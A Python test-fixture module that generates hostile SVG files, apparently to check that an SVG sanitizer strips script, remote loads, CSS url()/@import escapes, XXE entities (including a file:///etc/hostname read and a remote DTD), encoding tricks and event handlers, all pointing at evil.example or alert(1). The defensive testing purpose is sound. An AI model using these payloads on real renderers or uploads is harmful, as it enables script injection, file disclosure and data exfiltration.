"""SVGs that try to run or load something: each way to do it, at each place where it could stand.

Whatever such a file would reach names `evil.example` or `alert`, so a published drawing that holds neither word is harmless.
"""

from collections.abc import Iterator

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:l="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:f="urn:f" '
    'xmlns:ev="http://www.w3.org/2001/xml-events" xmlns:m="http://www.w3.org/1998/Math/MathML" width="9" height="9"'
)
PLACES = {
    "at the top": "{}",
    "in a group": "<g><g>{}</g></g>",
    "among definitions": '<defs><symbol id="s">{}</symbol></defs><use href="#s"/>',
    "in words": "<text><tspan>{}</tspan></text>",
    "behind words": "<text>Hello</text> and {} more",
    "in a switch": "<switch>{}<text>Hello</text></switch>",
    "in another language": '<f:wrapper xmlns:f="urn:f">{}</f:wrapper>',
}
ELEMENTS = {
    "script": "<script>alert(1)</script>",
    "script with a prefix": "<s:script>alert(1)</s:script>",
    "script from elsewhere": '<script href="//evil.example/x.js"/>',
    "script of a page": "<h:script>alert(1)</h:script>",
    "frames": '<h:frameset><h:frame src="javascript:alert(1)" f:src="#"/></h:frameset>',
    "frame": '<h:iframe srcdoc="&lt;script>alert(1)&lt;/script>"/>',
    "frame without prefix": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
    "form": '<h:form action="https://evil.example"><h:input name="password"/></h:form>',
    "refresh": '<h:meta http-equiv="refresh" content="0;url=https://evil.example"/>',
    "several sizes": '<h:img srcset="https://evil.example/x.png 2x"/>',
    "base": '<h:base href="https://evil.example/"/>',
    "sheet of a page": '<h:link rel="stylesheet" href="https://evil.example/x.css"/>',
    "object": '<h:object data="https://evil.example/"/>',
    "embedded": '<h:embed src="https://evil.example/"/>',
    "film": '<video href="https://evil.example/x.mp4"/>',
    "page in it": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
    "page in another letter case": '<foreignobject><h:script>alert(1)</h:script></foreignobject>',
    "handler of Tiny": '<handler type="application/ecmascript" ev:event="load">alert(1)</handler>',
    "listener": '<ev:listener event="load" handler="#x">alert(1)</ev:listener>',
    "formula": '<m:math href="javascript:alert(1)"><m:mi>x</m:mi></m:math>',
    "typeface from elsewhere": '<font-face><font-face-src><font-face-uri href="https://evil.example/x"/></font-face-src></font-face>',
    "pointer from elsewhere": '<cursor href="https://evil.example/x.png"/>',
    "instruction": '<?xml-stylesheet href="https://evil.example/x.css"?>',
    "entity": "&evil.example;",
}  # fmt: skip
ADDRESSES = {
    "script": "javascript:alert(1)",
    "script in capitals": "JavaScript:alert(1)",
    "script with a sign": "java&#x73;cript:alert(1)",
    "script with a line end": "java&#10;script:alert(1)",
    "script with a tab before": "&#9;javascript:alert(1)",
    "script with a control sign": "&#x85;javascript:alert(1)",
    "page as data": "data:text/html,alert(1)",
    "drawing as data": "data:image/svg+xml,%3Csvg onload='alert(1)'/%3E",
    "page in data of a picture": "data:image/png,alert(1)",
    "other host": "https://evil.example/x.svg#a",
    "other host in short": "//evil.example/x.svg#a",
    "other host with backslashes": "\\\\evil.example\\x",
    "folder of the machine": "file://evil.example/x",
    "neighbour": "evil.example.svg#a",
    "part behind a query": "?evil.example#a",
}
REFERRING = {
    "use": '<use {}="{}"/>',
    "picture": '<image {}="{}" width="1" height="1"/>',
    "picture in a filter": '<filter id="f"><feImage {}="{}"/></filter>',
    "gradient": '<linearGradient {}="{}"/>',
    "pattern": '<pattern {}="{}"/>',
    "text on a path": '<text><textPath {}="{}">x</textPath></text>',
    "path of a movement": '<circle r="1"><animateMotion><mpath {}="{}"/></animateMotion></circle>',
    "group": '<g {}="{}"/>',
}
LINKS = {name: address for name, address in ADDRESSES.items() if not name.startswith("other host")}
CSS = {
    "another host": "url(https://evil.example/x.svg#a)",
    "another host in short": "url(//evil.example/x)",
    "another host in quotes": "url('https://evil.example/x')",
    "another host in capitals": "URL(https://evil.example/x)",
    "another host behind spaces": "url(  &#10; 'https://evil.example/x' )",
    "neighbour": "url(evil.example.svg#a)",
    "escape": "\\75rl(https://evil.example/x)",
    "escape in the middle": "u\\72 l(https://evil.example/x)",
    "escape of the bracket": "url\\28 https://evil.example/x)",
    "escape in an address": "url(\\68ttps://evil.example/x)",
    "comment in the word": "ur/**/l(https://evil.example/x)",
    "comment behind the word": "url/**/(https://evil.example/x)",
    "comment without end": "/* url(https://evil.example/x)",
    "set of pictures": "image-set('https://evil.example/x' 1x)",
    "set of pictures with a prefix": "-webkit-image-set(url(https://evil.example/x) 1x)",
    "picture": "image('https://evil.example/x')",
    "source": "src('https://evil.example/x')",
    "mix of pictures": "cross-fade(url(https://evil.example/x), red)",
    "expression": "expression(alert(1))",
    "filter of Windows": "progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil.example/x')",
    "address in an attribute": "attr(data-evil.example type(url))",
    "drawing as data": "url(data:image/svg+xml,evil.example)",
    "part of something after a part": "url(#a) url(https://evil.example/x)",
    "address without end": "url('https://evil.example/x",
    "string without end": "'&#10;; fill: url(https://evil.example/x)",
    "variable": "var(--x, url(https://evil.example/x))",
}
SHEETS = {
    "import": "@import url(https://evil.example/x.css);",
    "import in quotes": "@import 'https://evil.example/x.css';",
    "import in capitals": "@IMPORT 'https://evil.example/x.css';",
    "import with an escape": "@\\69mport 'https://evil.example/x.css';",
    "import after a comment": "@/**/import 'https://evil.example/x.css';",
    "binding": "g { -moz-binding: url(https://evil.example/x.xml#a) }",
    "behaviour": "g { behavior: url(evil.example.htc) }",
    "letters": "@font-face { font-family: x; src: url(https://evil.example/x.woff2) }",
    "letters as a page": "@font-face { font-family: x; src: url(data:text/html;base64,ZXZpbC5leGFtcGxl) url(//evil.example) }",
    "namespace": "@namespace url(https://evil.example/);",
    "other signs": "@charset 'utf-7'; @import 'https://evil.example/';",
    "rule in a rule": "@media screen { @import 'https://evil.example/x.css'; }",
    "hidden in CDATA": "<![CDATA[ @import 'https://evil.example/x.css'; ]]>",
    "cut by a comment": "@imp<!-- x -->ort 'https://evil.example/x.css';",
    "cut by an element": "@imp<f:x/>ort 'https://evil.example/x.css';",
    "of a page": "</style><h:style>@import 'https://evil.example/x.css';</h:style><style>",
}  # fmt: skip
HANDLERS = ("onload", "onclick", "ONLOAD", "onbegin", "onfocusin", "onevil")
ANIMATIONS = {
    "set a link": '<a><set attributeName="href" to="javascript:alert(1)"/></a>',
    "set a link with a prefix": '<a><set attributeName="xlink:href" to="javascript:alert(1)"/></a>',
    "set a link with another prefix": '<a><set attributeName="l:href" to="javascript:alert(1)"/></a>',
    "set a link with spaces": '<a><set attributeName=" href " to="javascript:alert(1)"/></a>',
    "values of a link": '<a><animate attributeName="href" values="#;https://evil.example/"/></a>',
    "begin of a link": '<a><animate attributeName="href" from="https://evil.example/"/></a>',
    "sum of a link": '<a><animate attributeName="href" by="https://evil.example/"/></a>',
    "use by and by": '<use><animate attributeName="href" to="https://evil.example/x.svg#a"/></use>',
    "set a handler": '<circle r="1"><set attributeName="onclick" to="alert(1)"/></circle>',
    "set a style": '<circle r="1"><set attributeName="style" to="fill: url(https://evil.example/x)"/></circle>',
    "fill by and by": '<circle r="1"><animate attributeName="fill" values="red;url(https://evil.example/x)"/></circle>',
    "another element by and by": '<a id="a"/><set href="#a" attributeName="href" to="javascript:alert(1)"/>',
}
OPEN = f'{HEAD}><g id="evil.example"><script>alert(1)</script></g></svg>'
FILES = {
    "issue": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:f="urn:f" width="9" height="9">'
    b'<h:frameset><h:frame src="javascript:alert(1)" f:src="#"/></h:frameset></svg>',
    "page": b'<html xmlns="http://www.w3.org/1999/xhtml" width="9" height="9"><script>alert(1)</script></html>',
    "page without namespace": b'<html width="9" height="9"><script>alert(1)</script></html>',
    "drawing without namespace": b'<svg width="9" height="9"><script>alert(1)</script></svg>',
    "drawing in a page": f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{OPEN}</body></html>'.encode(),
    "prefix svg for a page": b'<svg:svg xmlns:svg="http://www.w3.org/1999/xhtml" width="9" height="9">'
    b"<svg:script>alert(1)</svg:script></svg:svg>",
    "UTF-16": OPEN.encode("utf-16"),
    "UTF-16 without a mark": f'<?xml version="1.0" encoding="utf-16"?>{OPEN}'.encode("utf-16-le"),
    "UTF-32": OPEN.encode("utf-32"),
    "UTF-7": f'<?xml version="1.0" encoding="utf-7"?>{HEAD}>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>'.encode(),
    "EBCDIC": f'<?xml version="1.0" encoding="cp037"?>{OPEN}'.encode("cp037"),
    "said to be Latin-1": f"<?xml version='1.0' encoding='iso-8859-1'?>{HEAD}><text>alert</text></svg>".encode(),
    "entity": f'<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>{HEAD}>&x;</svg>'.encode(),
    "entity of a file": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>{HEAD}><text>alert &x;</text></svg>'.encode(),
    "entity of another host": f'<!DOCTYPE svg SYSTEM "x" [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>{HEAD}/>'.encode(),
    "attribute that nobody wrote": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>{HEAD}/>'.encode(),
    "entity behind a comment": f'<!-- <!DOCTYPE svg> --><!DOCTYPE svg [<!ENTITY x "alert">]>{HEAD}>&x;</svg>'.encode(),
    "style sheet": f'<?xml-stylesheet href="https://evil.example/x.css"?>{HEAD}/>'.encode(),
    "program": f'<?xml-stylesheet type="text/xsl" href="#x"?>{HEAD}><text>alert</text></svg>'.encode(),
    "instruction behind it": f'{HEAD}/><?xml-stylesheet href="https://evil.example/x.css"?>'.encode(),
    "second element behind it": f"{HEAD}/><script>alert(1)</script>".encode(),
    "outermost handler": f'{HEAD} onload="alert(1)"/>'.encode(),
    "base of addresses": f'{HEAD} xml:base="https://evil.example/"><use href="#a"/></svg>'.encode(),
    "inclusion": f'{HEAD} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="https://evil.example/"/></svg>'.encode(),
    "ten laughs": f'<!DOCTYPE svg [<!ENTITY a "alert"><!ENTITY b "&a;&a;&a;&a;&a;">]>{HEAD}><text>&b;</text></svg>'.encode(),
    "much nesting": f"{HEAD}>{'<g>' * 5000}alert{'</g>' * 5000}</svg>".encode(),
    "NUL": f"{HEAD}>\0<text>alert</text></svg>".encode(),
}  # fmt: skip


def list_attacks() -> Iterator[tuple[str, bytes]]:
    """Yield every hostile file under a name that says what it tries."""
    yield from FILES.items()
    for name, inner in list_inner_attacks():
        yield name, f"{HEAD}>{inner}</svg>".encode()


def list_inner_attacks() -> Iterator[tuple[str, str]]:
    """Yield what tries something inside a drawing."""
    for place, around in PLACES.items():
        yield from ((f"{name} {place}", around.format(element)) for name, element in ELEMENTS.items())
    for way, element in REFERRING.items():
        for name, address in ADDRESSES.items():
            yield f"{way} to a {name}", element.format("href", address)
            yield f"{way} to a {name} with a prefix", element.format("l:href", address)
            yield f"{way} to a {name} behind another", element.format('href="#a" f:href="#a" xlink:href', address)
    for name, address in LINKS.items():
        yield f"link to a {name}", f'<a href="{address}"><circle r="1"/></a>'
        yield f"link to a {name} behind another", f'<a f:href="#" href="#" xlink:href="{address}"><circle r="1"/></a>'
    for name, value in CSS.items():
        yield f"attribute with {name}", f'<circle r="1" fill="{value}"/>'
        yield f"style with {name}", f'<circle r="1" style="stroke: red; fill: {value}"/>'
        yield f"custom style with {name}", f'<circle r="1" style="--x: {value}"/>'
        yield f"sheet with {name}", f"<style>circle {{ fill: {value} }}</style>"
        yield f"sheet with a prefix and {name}", f'<s:style type="text/css">circle {{ cursor: {value} }}</s:style>'
    yield from ((f"sheet: {name}", f"<style>{sheet}</style>") for name, sheet in SHEETS.items())
    yield from ((f"{handler}", f'<circle r="1" {handler}="alert(1)"/>') for handler in HANDLERS)
    yield from ANIMATIONS.items()
